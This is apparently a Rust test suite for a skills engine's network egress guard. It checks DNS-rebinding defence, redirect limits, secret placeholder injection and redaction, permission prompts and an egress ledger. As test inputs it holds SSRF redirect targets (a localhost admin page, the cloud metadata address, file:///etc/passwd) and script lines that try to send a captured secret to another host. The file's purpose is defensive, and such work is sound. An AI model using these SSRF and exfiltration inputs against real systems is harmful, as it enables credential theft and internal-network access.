//! The stages of egress, over a transport that answers from memory.

use std::net::IpAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use bytes::Bytes;
use futures_util::future::BoxFuture;
use http::StatusCode;
use openhuman_skills::{
    EgressCause, EgressOutcome, Engine, Grant, LedgerQuery, MemorySecrets, MemoryTransport, NameResolver,
    PermissionKind, SkillEvent, SkillId, SkillPackage, TransportRequest, TransportResponse,
};
use serde_json::{Value, json};

use crate::network::Always;
use crate::support::{call, run_with, tool};

const PUBLIC: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(1, 1, 1, 1));
const FETCH: &str = "const r = net.fetch(args.url, args.options); return JSON.stringify(r);";
const TRY: &str =
    "try { return net.fetch(args.url, args.options).body; } catch (e) { return 'error: ' + e.message; }";

fn ok(body: impl Into<Bytes>) -> TransportResponse {
    TransportResponse::new(StatusCode::OK).body(body)
}

fn to(location: &str) -> TransportResponse {
    TransportResponse::new(StatusCode::FOUND).header("location", location)
}

fn header<'a>(request: &'a TransportRequest, name: &str) -> &'a str {
    request
        .headers
        .get(name)
        .and_then(|value| value.to_str().ok())
        .unwrap_or("")
}

/// An engine whose transport is this function.
pub(crate) fn engine(
    answer: impl Fn(&TransportRequest) -> TransportResponse + Send + Sync + 'static,
    secrets: MemorySecrets,
) -> Engine {
    Engine::builder()
        .workers(1)
        .resolver(Arc::new(Always(PUBLIC)))
        .transport(Arc::new(MemoryTransport::new(move |request| Ok(answer(request)))))
        .secrets(Arc::new(secrets))
        .build()
        .unwrap()
}

pub(crate) fn hosts(names: &[&str]) -> Grant {
    let mut grant = Grant::none();
    for name in names {
        grant.allow_host(*name);
    }
    grant
}

async fn fetch(engine: &Engine, id: &SkillId, url: &str, options: Value) -> Value {
    let text = call(engine, id, json!({"url": url, "options": options}))
        .await
        .unwrap();
    serde_json::from_str(&text).unwrap_or(Value::String(text))
}

/// Answers with public and private addresses in turn.
struct Lying(AtomicUsize);

impl NameResolver for Lying {
    fn resolve(&self, _: String) -> BoxFuture<'static, std::io::Result<Vec<IpAddr>>> {
        let turn = self.0.fetch_add(1, Ordering::SeqCst);
        let address = if turn.is_multiple_of(2) {
            "1.1.1.1"
        } else {
            "127.0.0.1"
        };
        Box::pin(async move { Ok(vec![address.parse().unwrap()]) })
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_checked_is_what_is_connected() {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let record = Arc::clone(&seen);
    let transport = MemoryTransport::new(move |request| {
        record.lock().unwrap().push(request.endpoint.addresses.to_vec());
        Ok(ok("x"))
    });
    let engine = Engine::builder()
        .workers(1)
        .resolver(Arc::new(Lying(AtomicUsize::new(0))))
        .transport(Arc::new(transport))
        .build()
        .unwrap();
    let id = run_with(&engine, "rebind", &tool(TRY), hosts(&["*.example.com"])).await;
    let mut refused = 0;
    for turn in 0..10 {
        let text = fetch(
            &engine,
            &id,
            &format!("https://r{turn}.example.com/"),
            Value::Null,
        )
        .await;
        refused += usize::from(text.as_str().unwrap().contains("resolves to 127.0.0.1"));
    }
    let seen = seen.lock().unwrap().clone();
    assert_eq!((seen.len(), refused), (5, 5));
    assert!(
        seen.iter()
            .flatten()
            .all(|address| address.to_string() == "1.1.1.1:443")
    );
    engine.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn redirects_are_few_checked_and_without_credentials() {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let record = Arc::clone(&seen);
    let answer = move |request: &TransportRequest| {
        let line = format!(
            "{}{} {}",
            request.endpoint.host,
            request.target,
            header(request, "authorization")
        );
        record.lock().unwrap().push(line);
        match request.target.as_str() {
            "/private" => to("https://127.0.0.1/admin"),
            "/metadata" => to("//169.254.169.254/latest"),
            "/downgrade" => to("http://a.example.com/"),
            "/scheme" => to("file:///etc/passwd"),
            "/user" => to("https://a@b.example.com/"),
            "/other" => to("https://b.example.com/end"),
            "/ungranted" => to("https://c.example.com/end"),
            "/same" => to("/end"),
            "/4" => to("/3"),
            "/3" => to("/2"),
            "/2" => to("/1"),
            "/1" => to("/end"),
            _ => ok("end"),
        }
    };
    let engine = engine(answer, MemorySecrets::default());
    let id = run_with(
        &engine,
        "hops",
        &tool(TRY),
        hosts(&["a.example.com", "b.example.com"]),
    )
    .await;
    let go = async |path: &str| {
        seen.lock().unwrap().clear();
        let options = json!({"headers": {"Authorization": "Bearer x"}});
        let text = fetch(&engine, &id, &format!("https://a.example.com{path}"), options).await;
        (
            text.as_str().unwrap_or_default().to_owned(),
            seen.lock().unwrap().clone(),
        )
    };
    for (path, error) in [
        ("/private", "127.0.0.1:443 is a private address"),
        ("/metadata", "169.254.169.254:443 is a private address"),
        ("/downgrade", "GET http://a.example.com:80 is not asked for"),
        ("/scheme", "`file:` addresses cannot be requested"),
        ("/user", "must not hold a user name"),
        ("/ungranted", "c.example.com:443 is not asked for"),
        ("/4", "more than 3 redirects"),
    ] {
        let (text, seen) = go(path).await;
        assert!(text.contains(error), "{path}: {text}");
        assert_eq!(seen.len(), if path == "/4" { 4 } else { 1 }, "{path}: {seen:?}");
    }
    assert_eq!(go("/3").await.0, "end");
    assert_eq!(
        go("/same").await.1,
        ["a.example.com/same Bearer x", "a.example.com/end Bearer x"]
    );
    assert_eq!(
        go("/other").await.1,
        ["a.example.com/other Bearer x", "b.example.com/end "]
    );
    engine.shutdown().await;
}

fn keys() -> MemorySecrets {
    let skill = SkillId::new("keys").unwrap();
    MemorySecrets::default()
        .with(&skill, "key", "a.example.com", "s3cr3t/value+1")
        .with(&skill, "id", "a.example.com", "client-one")
}

#[tokio::test(flavor = "multi_thread")]
async fn placeholders_become_values_where_they_are_needed() {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let record = Arc::clone(&seen);
    let answer = move |request: &TransportRequest| {
        let body = String::from_utf8_lossy(&request.body).into_owned();
        record.lock().unwrap().push((
            request.target.clone(),
            header(request, "authorization").to_owned(),
            body,
        ));
        ok("x")
    };
    let engine = engine(answer, keys());
    let id = run_with(
        &engine,
        "keys",
        &tool("return eval(args.code);"),
        hosts(&["a.example.com"]),
    )
    .await;
    let send = async |target: &str, options: &str| {
        let code = format!("net.fetch('https://a.example.com{target}', {options}).status");
        assert_eq!(
            call(&engine, &id, json!({"code": code})).await.as_deref(),
            Ok("200"),
            "{code}"
        );
        seen.lock().unwrap().pop().unwrap()
    };
    let basic = format!("Basic {}", STANDARD.encode("client-one:s3cr3t/value+1"));
    let (target, auth, _) = send(
        "/bot{{secret:key}}/x?k={{secret:key}}",
        "{ headers: { Authorization: 'Bearer {{secret:key}}' } }",
    )
    .await;
    assert_eq!(target, "/bots3cr3t%2Fvalue%2B1/x?k=s3cr3t%2Fvalue%2B1");
    assert_eq!(auth, "Bearer s3cr3t/value+1");
    assert_eq!(
        send(
            "/",
            "{ headers: { Authorization: 'Basic {{secret:basic:id:key}}' } }"
        )
        .await
        .1,
        basic
    );
    let made = "{ headers: { Authorization: 'Basic ' + btoa('{{secret:id}}:{{secret:key}}') } }";
    let made = made.replace("btoa(", "globalThis.base64(");
    let code = "globalThis.base64 = (t) => { const A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'; let o = ''; \
        for (let i = 0; i < t.length; i += 3) { const n = (t.charCodeAt(i) << 16) | ((t.charCodeAt(i + 1) || 0) << 8) | (t.charCodeAt(i + 2) || 0); \
        o += A[n >> 18] + A[(n >> 12) & 63] + (i + 1 < t.length ? A[(n >> 6) & 63] : '=') + (i + 2 < t.length ? A[n & 63] : '='); } return o; }; 1";
    call(&engine, &id, json!({"code": code})).await.unwrap();
    assert_eq!(send("/", &made).await.1, basic);
    let json = "{ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ k: '{{secret:key}}' }) }";
    assert_eq!(send("/", json).await.2, r#"{"k":"s3cr3t/value+1"}"#);
    let form = "{ method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'a={{secret:id}}&b=' + encodeURIComponent('{{secret:key}}') }";
    assert_eq!(send("/", form).await.2, "a=client-one&b=s3cr3t%2Fvalue%2B1");
    let record = engine.ledger(&LedgerQuery::new().limit(1)).pop().unwrap();
    assert_eq!(record.secrets, ["id", "key"]);
    for refused in [
        "net.fetch('https://b.example.com/{{secret:key}}')",
        "net.fetch('https://a.example.com:8443/', { headers: { a: '{{secret:key}}' } })",
        "net.fetch('https://a.example.com/', { headers: { a: '{{secret:none}}' } })",
        "net.fetch('https://a.example.com/', { headers: { a: '{{secret:key' } })",
    ] {
        assert!(
            call(&engine, &id, json!({"code": refused})).await.is_err(),
            "{refused}"
        );
    }
    assert!(seen.lock().unwrap().is_empty());
    engine.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn echoes_of_a_secret_never_reach_the_skill() {
    const VALUE: &str = "s3cr3t/value+1";
    let answer = |request: &TransportRequest| {
        assert!(request.headers.contains_key("x-key") || request.target == "/later");
        let encoded = STANDARD.encode(format!("user:{VALUE}"));
        let text = format!("{VALUE} s3cr3t%2fvalue%2b1 {encoded} {}", r"s3cr3t\/value+1");
        let pieces: Vec<Bytes> = text.as_bytes().chunks(3).map(Bytes::copy_from_slice).collect();
        let mut response = TransportResponse::new(StatusCode::OK)
            .header("x-echo", &format!("k={VALUE}"))
            .pieces(pieces);
        response.reason = Some(format!("OK {VALUE}"));
        response
    };
    let engine = engine(answer, keys());
    let id = run_with(&engine, "keys", &tool(FETCH), hosts(&["a.example.com"])).await;
    let options = json!({"headers": {"X-Key": "{{secret:key}}"}});
    let url = "https://a.example.com/first?token={{secret:key}}";
    for (url, options) in [(url, options), ("https://a.example.com/later", Value::Null)] {
        let answer = fetch(&engine, &id, url, options).await;
        let text = answer.to_string();
        for part in ["s3cr3t/", "s3cr3t%2", "s3cr3t\\\\/", "czNjcjN0"] {
            assert!(!text.contains(part), "{part}: {text}");
        }
        assert_eq!(answer["statusText"], "OK {{secret:key}}");
        assert_eq!(answer["headers"]["x-echo"], "k={{secret:key}}");
        assert_eq!(
            answer["body"].as_str().unwrap().matches("{{secret:key}}").count(),
            4,
            "{answer}"
        );
    }
    engine.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_value_that_got_into_the_script_still_goes_nowhere_else() {
    let seen = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&seen);
    let answer = move |request: &TransportRequest| match request.endpoint.host.as_str() {
        // Reversed, it is not recognised on the way in.
        "a.example.com" if request.target == "/leak" => ok("1+eulav/t3rc3s"),
        "a.example.com" if request.target == "/bounce" => to("https://b.example.com/?k=s3cr3t/value+1"),
        "a.example.com" => ok("fine"),
        _ => {
            count.fetch_add(1, Ordering::SeqCst);
            ok("stolen")
        }
    };
    let engine = engine(answer, keys());
    let script = "
        if (args.learn) {
            const answer = net.fetch('https://a.example.com/leak', { headers: { k: '{{secret:key}}' } }).body;
            globalThis.value = answer.split('').reverse().join('');
            return value;
        }
        try { return eval(args.code).body; } catch (e) { return 'error: ' + e.message; }";
    let id = run_with(
        &engine,
        "keys",
        &tool(script),
        hosts(&["a.example.com", "b.example.com"]),
    )
    .await;
    assert_eq!(
        call(&engine, &id, json!({"learn": true})).await.as_deref(),
        Ok("s3cr3t/value+1")
    );
    for code in [
        "net.fetch('https://b.example.com/?k=' + value)",
        "net.fetch('https://b.example.com/' + encodeURIComponent(value))",
        "net.fetch('https://b.example.com/', { headers: { k: 'x' + value + 'y' } })",
        "net.fetch('https://b.example.com/', { method: 'POST', body: JSON.stringify({ a: [value] }) })",
        "net.fetch('https://b.example.com/', { method: 'POST', body: value.toUpperCase() })",
        "net.fetch('https://a.example.com/bounce', { headers: { k: '{{secret:key}}' } })",
    ] {
        let text = call(&engine, &id, json!({"code": code})).await.unwrap();
        assert!(
            text.contains("may not be sent to b.example.com:443"),
            "{code}: {text}"
        );
        assert!(!text.contains("s3cr3t/"), "{text}");
    }
    assert_eq!(seen.load(Ordering::SeqCst), 0);
    let text = call(
        &engine,
        &id,
        json!({"code": "net.fetch('https://a.example.com/', { headers: { k: value } })"}),
    )
    .await;
    assert_eq!(text.as_deref(), Ok("fine"), "its own host may have it");
    let shown = format!("{:?}", engine.ledger(&LedgerQuery::new()));
    assert!(!shown.contains("s3cr3t/") && shown.contains("Refused"), "{shown}");
    engine.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn encodings_are_offered_and_undone() {
    let answer = |request: &TransportRequest| {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        std::io::Write::write_all(&mut encoder, header(request, "accept-encoding").as_bytes()).unwrap();
        let body = encoder.finish().unwrap();
        let pieces: Vec<_> = body.chunks(5).map(Bytes::copy_from_slice).collect();
        match request.target.as_str() {
            "/gzip" => TransportResponse::new(StatusCode::OK)
                .header("content-encoding", "gzip")
                .pieces(pieces),
            "/cut" => TransportResponse::new(StatusCode::OK)
                .header("content-encoding", "gzip")
                .body(body[..9].to_vec()),
            "/zstd" => ok("x").header("content-encoding", "zstd"),
            "/head" => TransportResponse::new(StatusCode::NO_CONTENT).header("content-encoding", "gzip"),
            _ => ok(body).header("content-encoding", "identity"),
        }
    };
    let engine = engine(answer, MemorySecrets::default());
    let id = run_with(&engine, "codings", &tool(TRY), hosts(&["a.example.com"])).await;
    for (path, expected) in [
        ("/gzip", "gzip, deflate, br"),
        ("/cut", "cannot be decoded: it ends too early"),
        ("/zstd", "which was not offered"),
        ("/head", ""),
    ] {
        let options = json!({"headers": {"Accept-Encoding": "zstd"}});
        let text = fetch(&engine, &id, &format!("https://a.example.com{path}"), options).await;
        let text = text.as_str().unwrap_or_default();
        assert!(
            text.contains(expected) && (!expected.is_empty() || text.is_empty()),
            "{path}: {text}"
        );
    }
    engine.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_refused_host_is_asked_for_and_a_new_grant_applies_at_once() {
    let engine = Engine::builder()
        .workers(1)
        .backend("https://backend.example.com/api".parse().unwrap())
        .resolver(Arc::new(Always(PUBLIC)))
        .transport(Arc::new(MemoryTransport::new(|_| Ok(ok("reached")))))
        .build()
        .unwrap();
    // From before permissions existed: its API and the backend, nothing else.
    let manifest =
        json!({"id": "old", "name": "Old", "setup": {"oauth": {"apiBaseUrl": "https://api.example.com/v1"}}});
    let package = SkillPackage::from_parts(&manifest.to_string(), tool(TRY)).unwrap();
    let grant = engine.proposed_grant(package.manifest());
    let mut events = engine.events();
    let id = engine.install(package, grant).await.unwrap();
    engine.start(&id).await.unwrap();
    let go = async |url: &str| {
        fetch(&engine, &id, url, Value::Null)
            .await
            .as_str()
            .unwrap()
            .to_owned()
    };
    assert_eq!(go("https://api.example.com/v1/me").await, "reached");
    assert_eq!(go("https://backend.example.com/proxy").await, "reached");
    for _ in 0..3 {
        let error = go("https://oauth2.example.org/token").await;
        assert!(error.contains("oauth2.example.org"), "{error}");
        let error = go("http://127.0.0.1:9000/").await;
        assert!(error.contains("127.0.0.1:9000"), "{error}");
    }
    let mut wanted = Vec::new();
    while let Ok(event) = events.try_recv() {
        if let SkillEvent::PermissionWanted { skill_id, kind, what } = event {
            assert_eq!(skill_id, id);
            wanted.push((kind, what));
        }
    }
    let expected = [
        (PermissionKind::Host, "oauth2.example.org".to_owned()),
        (PermissionKind::PrivateHost, "127.0.0.1:9000".to_owned()),
    ];
    assert_eq!(wanted, expected, "once each");
    let mut grant = engine.grant(&id).unwrap();
    grant.allow_host("oauth2.example.org");
    engine.set_grant(&id, grant).unwrap();
    assert_eq!(go("https://oauth2.example.org/token").await, "reached");
    engine.set_grant(&id, Grant::none()).unwrap();
    assert!(go("https://api.example.com/v1/me").await.starts_with("error"));
    // No more than ten questions in a minute, whatever a skill tries.
    for index in 0..30 {
        go(&format!("https://h{index}.example.net/")).await;
    }
    let mut asked = 0;
    while let Ok(event) = events.try_recv() {
        asked += usize::from(matches!(event, SkillEvent::PermissionWanted { .. }));
    }
    assert_eq!(asked + wanted.len(), 10);
    engine.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_ledger_names_what_left_and_why() {
    let (log, mut kept) = tokio::sync::mpsc::channel(64);
    let engine = Engine::builder()
        .workers(1)
        .resolver(Arc::new(Always(PUBLIC)))
        .transport(Arc::new(MemoryTransport::new(|_| Ok(ok("12345")))))
        .egress_log(log)
        .build()
        .unwrap();
    let script = "globalThis.__skill = { default: {
        init() { net.fetch('https://a.example.com/init'); },
        tools: [
            { name: 'run', execute(args) { try { return net.fetch(args.url, args.options).body; } catch (e) { return e.message; } } },
            { name: 'later', async execute() { await (await fetch('https://a.example.com/one')).text(); await fetch('https://a.example.com/two'); return 'done'; } },
            { name: 'timed', execute() { setTimeout(() => { net.fetch('https://a.example.com/timer'); }, 1); return 'set'; } },
        ] } };";
    let id = run_with(&engine, "noted", script, hosts(&["a.example.com"])).await;
    let secret_query = "https://a.example.com/path?token=hidden#part";
    call(
        &engine,
        &id,
        json!({"url": secret_query, "options": {"method": "POST", "body": "four"}}),
    )
    .await
    .unwrap();
    call(&engine, &id, json!({"url": "https://b.example.com/x"}))
        .await
        .unwrap();
    let options = openhuman_skills::CallOptions::default();
    engine.call_tool(&id, "later", json!({}), options).await.unwrap();
    engine.call_tool(&id, "timed", json!({}), options).await.unwrap();
    crate::support::until(|| engine.ledger(&LedgerQuery::new()).len() == 6).await;
    let all = engine.ledger(&LedgerQuery::new().skill(&id));
    let lines: Vec<String> = all
        .iter()
        .map(|record| {
            let cause = match &record.cause {
                EgressCause::Tool { name, .. } => format!("tool {name}"),
                EgressCause::Hook { name } => format!("hook {name}"),
                other => format!("{other:?}"),
            };
            let outcome = match &record.outcome {
                EgressOutcome::Answered { status } => status.to_string(),
                EgressOutcome::Refused { .. } => "refused".to_owned(),
                other => format!("{other:?}"),
            };
            let (method, host, path) = (&record.method, &record.host, &record.path);
            format!(
                "{cause}: {method} {host}{path} {outcome} {}/{}",
                record.bytes_out, record.bytes_in
            )
        })
        .collect();
    assert_eq!(
        lines,
        [
            "hook init: GET a.example.com/init 200 0/5",
            "tool run: POST a.example.com/path 200 4/5",
            "tool run: GET b.example.com/x refused 0/0",
            "tool later: GET a.example.com/one 200 0/5",
            "tool later: GET a.example.com/two 200 0/5",
            "Timer: GET a.example.com/timer 200 0/5",
        ]
    );
    assert!(
        !serde_json::to_string(&all.iter().map(|record| &**record).collect::<Vec<_>>())
            .unwrap()
            .contains("hidden")
    );
    assert_eq!(engine.ledger(&LedgerQuery::new().refused()).len(), 1);
    assert_eq!(engine.ledger(&LedgerQuery::new().tool("later")).len(), 2);
    assert_eq!(engine.ledger(&LedgerQuery::new().host("b.example.com")).len(), 1);
    let mut told = Vec::new();
    while let Ok(record) = kept.try_recv() {
        told.push(record);
    }
    told.sort_by_key(|record| all.iter().position(|known| known == record));
    assert_eq!(told, all, "the host's log has what the ledger has");
    engine.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_slow_log_makes_skills_wait_and_loses_nothing_and_a_closed_one_lets_nothing_out() {
    let (log, mut kept) = tokio::sync::mpsc::channel(1);
    let sent = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&sent);
    let engine = Engine::builder()
        .workers(1)
        .resolver(Arc::new(Always(PUBLIC)))
        .transport(Arc::new(MemoryTransport::new(move |_| {
            count.fetch_add(1, Ordering::SeqCst);
            Ok(ok("x"))
        })))
        .egress_log(log)
        .build()
        .unwrap();
    let id = run_with(&engine, "chatty", &tool(TRY), hosts(&["a.example.com"])).await;
    // Far more events than the channel of events holds, none of which pushes a record out.
    let calls = tokio::spawn({
        let (engine, id) = (engine.clone(), id.clone());
        async move {
            for turn in 0..40 {
                fetch(
                    &engine,
                    &id,
                    &format!("https://a.example.com/{turn}"),
                    Value::Null,
                )
                .await;
            }
        }
    });
    // The first record fills the channel: nothing more leaves until it is read.
    crate::support::until(|| !kept.is_empty()).await;
    assert_eq!(sent.load(Ordering::SeqCst), 1);
    for turn in 0..40 {
        assert_eq!(kept.recv().await.unwrap().path, format!("/{turn}"));
    }
    calls.await.unwrap();
    drop(kept);
    let text = fetch(&engine, &id, "https://a.example.com/more", Value::Null).await;
    assert!(text.as_str().unwrap().contains("the log is closed"), "{text}");
    assert_eq!(sent.load(Ordering::SeqCst), 40);
    engine.shutdown().await;
}
